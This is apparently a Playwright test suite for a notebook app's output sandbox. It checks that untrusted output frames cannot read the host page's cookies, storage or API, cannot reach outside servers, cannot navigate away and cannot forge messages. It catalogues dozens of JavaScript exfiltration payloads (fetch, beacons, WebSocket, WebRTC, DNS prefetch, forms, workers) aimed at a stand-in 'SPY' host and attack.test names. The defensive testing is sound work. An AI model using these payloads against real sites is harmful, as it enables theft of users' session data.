"""An output that attacks whoever looks at it: it reads nothing of the page, and reaches nothing.

Chromium has a profile on disk here: only then does it look names up ahead, and connect ahead, as people's browsers do.
"""

from __future__ import annotations

import socket
from collections.abc import Iterator
from pathlib import Path

import pytest
from playwright.sync_api import BrowserContext, Page, expect

from ..chromium import full_chromium_path
from .app import PATIENCE, App
from .listeners import Listener, listening, self_signed
from .node import needs_packages
from .output_cells import frame_of, html, imported, outputs_of

pytestmark = [needs_packages, pytest.mark.slow]

ALLOWED, OTHER = "cdn.allowed.test", "cdn.other.test"
WAIT = "const wait = (ms) => new Promise((done) => setTimeout(done, ms));"
TOOLS = """
const add = (tag, fields) => { const it = Object.assign(document.createElement(tag), fields); document.body.append(it); return it }
const insert = (html) => document.body.insertAdjacentHTML('beforeend', html)
const blob = (text, type) => URL.createObjectURL(new Blob([text], { type }))
const rules = (value) => add('script', { type: 'speculationrules', textContent: JSON.stringify(value) })
const sheet = (css) => { const it = new CSSStyleSheet(); it.replaceSync(css); document.adoptedStyleSheets = [it] }
"""


@pytest.fixture(scope="module")
def listener() -> Iterator[Listener]:
    with listening() as made:
        yield made


@pytest.fixture(scope="module")
def secure_listener(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Listener]:
    certificate = self_signed(tmp_path_factory.mktemp("tls") / "both.pem", ALLOWED, OTHER)
    with listening(certificate) as made:
        yield made


@pytest.fixture(scope="module")
def profile(app: App, secure_listener: Listener, tmp_path_factory: pytest.TempPathFactory) -> Iterator[BrowserContext]:
    """A browser with a profile of its own, that is signed in. It finds the hosts of the tests on this machine."""
    rules = f"MAP *.test:443 127.0.0.1:{secure_listener.server_port}"
    made = profiled(
        app, tmp_path_factory.mktemp("profile"), f"--host-resolver-rules={rules}", "--ignore-certificate-errors"
    )
    yield made
    made.close()


def profiled(app: App, folder: Path, *flags: str) -> BrowserContext:
    path = full_chromium_path()
    assert path is not None
    made = app.browser.browser_type.launch_persistent_context(
        folder,
        executable_path=path,
        headless=False,
        args=["--no-sandbox", "--headless=new", *flags],
        ignore_default_args=["--disable-background-networking", "--enable-automation"],
        base_url=app.url,
    )
    made.set_default_timeout(PATIENCE)
    app.sign_in(made)
    return made


@pytest.fixture
def victim(profile: BrowserContext) -> Iterator[Page]:
    """A page of the person who looks."""
    made = profile.new_page()
    yield made
    made.close()


def attack(code: str) -> str:
    """HTML that runs an attack, and says what it got."""
    return f"""<p>before</p><script>
    {WAIT}
    {TOOLS}
    (async () => {{
      let said
      try {{ said = await (async () => {{ {code} }})() }} catch (error) {{ said = "refused: " + error.name }}
      const end = document.createElement("p")
      end.id = "said"
      end.textContent = String(said)
      document.body.append(end)
    }})()
    </script>"""


def said_by(page: Page, number: int) -> str:
    """What an attack says it got, when it is over. Frames that are far away begin when they are scrolled to."""
    outputs_of(page, number).scroll_into_view_if_needed()
    said = frame_of(page, number).locator("#said")
    expect(said).to_be_attached()
    return said.text_content() or ""


# ---- Reading

READING = {
    "the page": "return parent.document.title",
    "the page's elements": "return parent.document.body.innerHTML",
    "the top page": "return top.document.cookie",
    "the page's address": "return top.location.href",
    "the page's variables": "return JSON.stringify(parent.localStorage)",
    "local storage": "return localStorage.getItem('quire-page-key')",
    "session storage": "return sessionStorage.length",
    "cookies": "return document.cookie",
    "indexed databases": "return (await indexedDB.databases()).length",
    "caches": "return (await caches.keys()).length",
    "a lock": "return (await navigator.locks.query()).held.length",
    "another frame": "return parent.frames[0].document.body.textContent",
    "the frame element": "return frameElement.id",
    "the API": "return (await fetch('ORIGIN/api/me')).status",
    "the API with credentials": "return (await fetch('ORIGIN/api/me', { credentials: 'include' })).status",
    "the API without an origin": "return (await fetch('ORIGIN/api/me', { mode: 'no-cors', credentials: 'include' })).type",
    "a blob of the server": "return (await fetch('ORIGIN/api/blobs/' + '0'.repeat(64))).status",
    "the socket": """return new Promise((ok, no) => {
      const socket = new WebSocket('ws' + 'ORIGIN'.slice(4) + '/api/socket')
      socket.onopen = () => ok('open')
      socket.onerror = no
    })""",
    "the clipboard": "return await navigator.clipboard.readText()",
    "a file of the app": "return (await fetch('ORIGIN/')).status",
}


def test_an_output_cannot_read(app: App, victim: Page) -> None:
    """Each in a frame of its own, with another frame beside it."""
    attacks = [html(attack(code.replace("ORIGIN", app.url))) for code in READING.values()]
    app.open(victim, imported(app, "reading", html("<p>another</p>"), *attacks))
    expect(frame_of(victim, 0).locator("p")).to_have_text("another")
    for number, what in enumerate(READING, 1):
        said = said_by(victim, number)
        assert said.startswith(("refused: ", "undefined", "[object Event]")), (what, said)


# ---- Reaching

REACHING = {
    "fetch": "await fetch('SPY/x')",
    "fetch without an origin": "await fetch('SPY/x', { mode: 'no-cors' })",
    "fetch that is kept alive": "await fetch('SPY/x', { mode: 'no-cors', keepalive: true })",
    "a later fetch": "fetchLater('SPY/x', { activateAfter: 0 })",
    "XMLHttpRequest": "const x = new XMLHttpRequest(); x.open('GET', 'SPY/x'); x.send()",
    "an image": "new Image().src = 'SPY/x'",
    "an image in HTML": "insert(`<img src='SPY/x' srcset='SPY/y 2x'>`)",
    "a picture's sources": "insert(`<picture><source srcset='SPY/x'><img></picture>`)",
    "a script": "add('script', { src: 'SPY/x' })",
    "a module": "await import('SPY/x')",
    "a module in HTML": "add('script', { type: 'module', textContent: `import 'SPY/x'` })",
    "a style sheet": "add('link', { rel: 'stylesheet', href: 'SPY/x' })",
    "an imported style": "add('style', { textContent: `@import url(SPY/x)` })",
    "url() in a style": "document.body.style.backgroundImage = `url(SPY/x)`",
    "a style sheet of a script": "sheet(`body { background: url(SPY/x) }`)",
    "a cursor": "document.body.style.cursor = `url(SPY/x), auto`",
    "a font": "await new FontFace('f', `url(SPY/x)`).load()",
    "a font of a style": "sheet(`@font-face { font-family: f; src: url(SPY/x) } body { font-family: f }`)",
    "sound": "new Audio('SPY/x').play().catch(() => 0)",
    "video and its poster": "insert(`<video src='SPY/x' poster='SPY/y'><track src='SPY/z' default></video>`)",
    "an object": "insert(`<object data='SPY/x'></object><embed src='SPY/y'>`)",
    "an SVG image": "insert(`<svg><image href='SPY/x'/><use href='SPY/y#a'/><filter><feImage href='SPY/z'/></filter></svg>`)",
    "a form": "add('form', { action: 'SPY/x' }).submit()",
    "a form into a new window": "add('form', { action: 'SPY/x', target: '_blank' }).submit()",
    "a form of the page": "add('form', { action: 'SPY/x', target: '_top' }).submit()",
    "a WebSocket": "new WebSocket('SPY/x'.replace('http', 'ws'))",
    "an EventSource": "new EventSource('SPY/x')",
    "a beacon": "navigator.sendBeacon('SPY/x', 'data')",
    "a ping": "add('a', { href: '#', ping: 'SPY/x' }).click()",
    "WebTransport": "await new WebTransport('SPY/x'.replace('http:', 'https:')).ready",
    "prefetch": "add('link', { rel: 'prefetch', href: 'SPY/x' })",
    "preload": "add('link', { rel: 'preload', as: 'image', href: 'SPY/x' })",
    "modulepreload": "add('link', { rel: 'modulepreload', href: 'SPY/x' })",
    "prerender": "add('link', { rel: 'prerender', href: 'SPY/x' })",
    "preconnect": "add('link', { rel: 'preconnect', href: 'SPY/' })",
    "preconnect in HTML": "insert(`<link rel=preconnect href='SPY/'>`)",
    "a manifest and an icon": "insert(`<link rel=manifest href='SPY/x'><link rel=icon href='SPY/y'>`)",
    "a page prefetched by rules": "rules({ prefetch: [{ source: 'list', urls: ['SPY/x'] }] })",
    "a page prerendered by rules": "rules({ prerender: [{ source: 'list', urls: ['SPY/y'] }] })",
    "a nested frame": "add('iframe', { src: 'SPY/x' })",
    "a nested document": "add('iframe', { srcdoc: `<img src='SPY/x'><script src='SPY/y'></` + `script>` })",
    "a nested blob": "add('iframe', { src: blob(`<img src='SPY/x'>`, 'text/html') })",
    "a nested data address": "add('iframe', { src: `data:text/html,<img src='SPY/x'>` })",
    "an empty nested frame": "add('iframe', {}).contentWindow.fetch('SPY/x', { mode: 'no-cors' })",
    "a worker": "new Worker(blob(`fetch('SPY/x', { mode: 'no-cors' }); importScripts('SPY/y')`, 'text/javascript'))",
    "a worker by data": "new Worker(`data:text/javascript,fetch('SPY/x')`)",
    "a shared worker": "new SharedWorker(blob(`fetch('SPY/x')`, 'text/javascript'))",
    "a service worker": "await navigator.serviceWorker.register('/frame/assets/x.js')",
    "a worklet": "await CSS.paintWorklet.addModule('SPY/x')",
    "a window": "open('SPY/x')",
    "a link into a window": "add('a', { href: 'SPY/x', target: '_blank' }).click()",
    "navigation of the page": "top.location = 'SPY/x'",
    "navigation of the page by a link": "add('a', { href: 'SPY/x', target: '_top' }).click()",
    "a base address": "add('base', { href: 'SPY/' }); new Image().src = 'x'",
    "a policy of its own": "insert(`<meta http-equiv='Content-Security-Policy' content='report-uri SPY/x'>`); new Image().src = 'SPY/y'",
}


@pytest.mark.parametrize("third", range(3))
def test_an_output_cannot_reach_a_server(app: App, victim: Page, listener: Listener, third: int) -> None:
    """Each way in a frame of its own, and with a path of its own, by which the listener tells which one came through."""
    before = listener.reached[0]
    pages = len(victim.context.pages)
    ways = list(REACHING)[third::3]
    address = f"http://127.0.0.1:{listener.server_port}"
    codes = [REACHING[way].replace("SPY", f"{address}/{number}") for number, way in enumerate(ways)]
    app.open(victim, imported(app, f"reaching {third}", *(html(attack(f"{code}; await wait(500)")) for code in codes)))
    for number in range(len(ways)):
        said_by(victim, number)
    assert len(victim.context.pages) == pages
    assert victim.url.startswith(app.url)
    assert listener.reached[0] == before, (listener.reached, dict(enumerate(ways)))


LEAVING = {
    "location": "location.href = 'SPY/x'",
    "replace": "location.replace('SPY/x')",
    "data": "location.href = 'data:text/html,<script>fetch(`SPY/x`)</' + 'script>'",
    "blob": "location.href = URL.createObjectURL(new Blob([`<script>fetch('SPY/x')</` + `script>`], { type: 'text/html' }))",
    "refresh": "document.head.insertAdjacentHTML('beforeend', `<meta http-equiv=refresh content='0;url=SPY/x'>`)",
    "the frame again": "location.href = '/frame?hosts=cdn.allowed.test'",
    "an answer of the API": "location.href = '/api/me'",
    "a page of the app": "location.href = '/settings'",
    "ready once more": "parent.postMessage({ type: 'ready' }, '*')",
}


def test_a_frame_that_leaves_is_removed(app: App, victim: Page, listener: Listener, secure_listener: Listener) -> None:
    before = listener.reached[0], secure_listener.reached[0]
    address = f"http://127.0.0.1:{listener.server_port}"
    codes = [code.replace("SPY", f"{address}/{number}") for number, code in enumerate(LEAVING.values())]
    frames = (html(f"<p>here</p><script>setTimeout(() => {{ {code} }}, 50)</script>") for code in codes)
    app.open(victim, imported(app, "leaving", *frames))
    for number in range(len(LEAVING)):
        outputs_of(victim, number).scroll_into_view_if_needed()
        expect(outputs_of(victim, number)).to_contain_text("tried to leave its page")
    expect(victim.locator("iframe")).to_have_count(0)
    assert (listener.reached[0], secure_listener.reached[0]) == before, (listener.asked, secure_listener.asked)


def test_nothing_is_downloaded(app: App, victim: Page) -> None:
    downloads: list[object] = []
    victim.on("download", lambda download: downloads.append(download))
    code = """for (const href of ['data:application/octet-stream,x', URL.createObjectURL(new Blob(['x']))]) {
      const a = document.createElement('a'); a.href = href; a.download = 'x.exe'; document.body.append(a); a.click()
    }
    await wait(400)"""
    app.open(victim, imported(app, "download", html(attack(code))))
    expect(frame_of(victim, 0).locator("#said")).to_be_attached()
    assert downloads == []


# ---- Names and packets

RTC = """
const made = []
const windows = [self]
for (const set of [(f) => 0, (f) => (f.srcdoc = '<p>x'), (f) => (f.src = 'javascript:1'), (f) => (f.src = 'about:blank#x')]) {
  const f = document.createElement('iframe'); set(f); document.body.append(f); windows.push(f.contentWindow)
}
await wait(200)
for (const w of windows) {
  try { made.push(w.RTCPeerConnection, w.webkitRTCPeerConnection) } catch (error) { made.push(undefined) }
}
for (const Made of made) {
  if (!Made) continue
  const c = new Made({ iceServers: [{ urls: 'stun:127.0.0.1:PORT' }] })
  c.createDataChannel('x')
  await c.setLocalDescription(await c.createOffer())
}
await wait(1500)
return made.filter(Boolean).length
"""


def test_no_packet_leaves_by_webrtc(app: App, victim: Page) -> None:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as packets:
        packets.bind(("127.0.0.1", 0))
        packets.setblocking(False)
        code = RTC.replace("PORT", str(packets.getsockname()[1]))
        app.open(victim, imported(app, "webrtc", html(attack(code))))
        expect(frame_of(victim, 0).locator("#said")).to_have_text("0")
        with pytest.raises(BlockingIOError):
            packets.recv(1)
        # That a packet would have come: the same on a page without a policy.
        victim.goto("about:blank")
        assert victim.evaluate(f"(async () => {{ {WAIT} {code} }})()") > 0
        assert packets.recv(1000)


def test_no_name_is_looked_up(app: App, tmp_path: Path) -> None:
    """Names carry data to whoever answers for them. A policy says nothing of lookups: another header does."""
    noted = tmp_path / "net.json"
    profile = profiled(app, tmp_path / "profile", f"--log-net-log={noted}", "--net-log-capture-mode=Everything")
    hints = "".join(f"<link rel={rel} href='//{rel}-html.attack.test/'>" for rel in ("dns-prefetch", "preconnect"))
    code = """
    for (const rel of ['dns-prefetch', 'preconnect']) {
      const l = document.createElement('link'); l.rel = rel; l.href = '//' + rel + '-script.attack.test/'; document.head.append(l)
      document.head.insertAdjacentHTML('beforeend', `<link rel=${rel} href='//${rel}-inserted.attack.test/'>`)
    }
    document.body.insertAdjacentHTML('beforeend', `<a href='//anchor.attack.test/'>x</a>`)
    await wait(1500)"""
    page = profile.new_page()
    app.open(page, imported(app, "names", html(hints + attack(code))))
    expect(frame_of(page, 0).locator("#said")).to_be_attached()
    control = profile.new_page()
    control.goto("data:text/html,<link rel=dns-prefetch href='http://seen.control.test/'>")
    control.wait_for_timeout(1000)
    profile.close()
    text = noted.read_text()
    assert "seen.control.test" in text
    assert "attack.test" not in text


# ---- Forgery


def test_one_frame_cannot_give_another_its_content(app: App, victim: Page) -> None:
    forging = """
    setInterval(() => {
      for (let n = 0; n < parent.length; n += 1) {
        const content = { kind: 'javascript', code: "document.body.textContent = 'forged'" }
        const theme = { isDark: false, colours: {}, font: '' }
        parent[n].postMessage({ type: 'show', content, theme, mostHeight: 9 }, '*', [new MessageChannel().port1])
        parent[n].postMessage({ type: 'theme', theme }, '*')
      }
    }, 5)
    return 'forging'"""
    tall = html("<div style='height: 1100px'>tall</div>")
    app.open(victim, imported(app, "forgery", html(attack(forging)), tall, tall, tall, html("<p>mine</p>")))
    expect(frame_of(victim, 0).locator("#said")).to_have_text("forging")
    victim.locator("[data-cell]").last.scroll_into_view_if_needed()
    expect(frame_of(victim, 4).locator("body")).to_have_text("mine")


def test_what_a_frame_says_is_only_drawn_small(app: App, victim: Page) -> None:
    lies = """
    for (const message of [
      { type: 'height', height: 1e12 }, { type: 'link', address: 'javascript:alert(1)' }, { type: 'show' },
      { type: 'wanted', address: 'https://' + 'x'.repeat(5000) }, { type: 'quire', do: 'run' }, 'ready?', null,
      { type: 'wheel', dx: 0, dy: 1e9 },
    ]) parent.postMessage(message, '*')
    await wait(200)
    return 'lied'"""
    app.open(victim, imported(app, "lies", html(attack(lies)), html("<p>next</p>")))
    expect(frame_of(victim, 0).locator("#said")).to_have_text("lied")
    expect(frame_of(victim, 1).locator("p")).to_have_text("next")
    box = outputs_of(victim, 0).locator("iframe").bounding_box()
    assert box is not None
    assert box["height"] < 300


def test_a_frame_that_grows_with_itself_ends_growing(app: App, victim: Page) -> None:
    app.open(
        victim, imported(app, "growth", html("<div style='height: calc(100vh + 10px)'>x</div>"), html("<p>next</p>"))
    )
    frame = outputs_of(victim, 0).locator("iframe")
    expect(frame_of(victim, 0).locator("div")).to_be_attached()
    expect(frame_of(victim, 1).locator("p")).to_have_text("next")
    box = frame.bounding_box()
    assert box is not None
    assert box["height"] <= 1200


# ---- What was allowed


def test_a_host_that_is_allowed_is_reached_and_no_other(app: App, victim: Page, secure_listener: Listener) -> None:
    code = f"""
    await new Promise((done) => add('script', {{ src: 'https://{ALLOWED}/lib.js', onload: done, onerror: done }}))
    await fetch('https://{OTHER}/other', {{ mode: 'no-cors' }}).catch(() => 0)
    return globalThis.loadedFrom ?? 0"""
    log = imported(app, "allowed", html(attack(code)))
    elsewhere = imported(app, "elsewhere", html(attack(code)))
    app.open(victim, log)
    expect(frame_of(victim, 0).locator("#said")).to_have_text("0")
    assert secure_listener.asked == []
    wanted = outputs_of(victim, 0).get_by_text(f"wanted {ALLOWED}")
    wanted.get_by_role("button", name="Allow for me in this notebook").click()
    expect(frame_of(victim, 0).locator("#said")).to_have_text("1")
    assert secure_listener.asked == [f"{ALLOWED}/lib.js"]
    expect(outputs_of(victim, 0)).to_contain_text(f"wanted {OTHER}")
    app.open(victim, elsewhere)
    expect(frame_of(victim, 0).locator("#said")).to_have_text("0")
    app.open(victim, log)
    expect(frame_of(victim, 0).locator("#said")).to_have_text("1")
    assert [each for each in secure_listener.asked if OTHER in each] == []
    wanted = outputs_of(victim, 0).get_by_text(f"wanted {OTHER}")
    wanted.get_by_role("button", name="Allow for me in this notebook").click()
    expect(outputs_of(victim, 0).locator("iframe")).to_have_attribute("src", f"/frame?hosts={ALLOWED},{OTHER}")
    expect(frame_of(victim, 0).locator("#said")).to_have_text("1")
    assert f"{OTHER}/other" in secure_listener.asked


def test_metadata_of_a_notebook_allows_nothing(app: App, victim: Page, secure_listener: Listener) -> None:
    before = secure_listener.reached[0]
    metadata = {"hosts": [ALLOWED], "quire": {"hosts": [ALLOWED]}, "allowed_hosts": [ALLOWED]}
    code = f"await fetch('https://{ALLOWED}/x', {{ mode: 'no-cors' }})"
    app.open(victim, imported(app, "metadata", html(attack(code)), metadata=metadata))
    expect(frame_of(victim, 0).locator("#said")).to_contain_text("refused")
    assert secure_listener.reached[0] == before
